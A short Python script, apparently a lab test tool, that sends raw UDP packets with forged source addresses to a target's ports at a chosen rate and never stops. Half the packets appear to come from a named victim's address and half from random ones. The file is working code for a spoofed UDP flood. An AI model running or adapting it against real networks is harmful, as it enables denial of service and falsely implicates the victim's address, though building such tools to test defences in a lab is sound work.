"""
Sends UDP datagrams in other people's names, as fast as it is told, until it is ended.

``python -m tests.lab.spoofer VICTIM TARGET PORTS RATE``, with datagrams to choose from on standard
input, one a line in hex. Half of them come from the victim's address, half from random ones.
"""

import random
import socket
import struct
import sys
import time


def packet(source: str, target: str, port: int, datagram: bytes) -> bytes:
    """Return an IPv4 packet; the kernel fills in the zeros. UDP needs no checksum over IPv4."""
    udp = struct.pack("!HHHH", random.randrange(1024, 65536), port, 8 + len(datagram), 0) + datagram
    ip = struct.pack(
        "!BBHHHBBH4s4s",
        0x45,
        0,
        0,
        random.randrange(65536),
        0,
        64,
        socket.IPPROTO_UDP,
        0,
        socket.inet_aton(source),
        socket.inet_aton(target),
    )
    return ip + udp


def main(victim: str, target: str, ports: list[int], rate: float) -> None:
    """Send for ever."""
    datagrams = [bytes.fromhex(line) for line in sys.stdin]
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    began, sent = time.monotonic(), 0
    print("sending", flush=True)
    while True:
        datagram = random.choice(datagrams)
        source = victim if random.random() < 0.5 else f"198.51.{random.randrange(256)}.7"
        for port in ports:
            raw.sendto(packet(source, target, port, datagram), (target, 0))
        sent += len(ports)
        ahead = sent / rate - (time.monotonic() - began)
        if ahead > 0:
            time.sleep(ahead)
        elif ahead < -5:
            print("too slow", flush=True)
            began, sent = time.monotonic(), 0


if __name__ == "__main__":
    main(
        sys.argv[1], sys.argv[2], [int(port) for port in sys.argv[3].split(",")], float(sys.argv[4])
    )
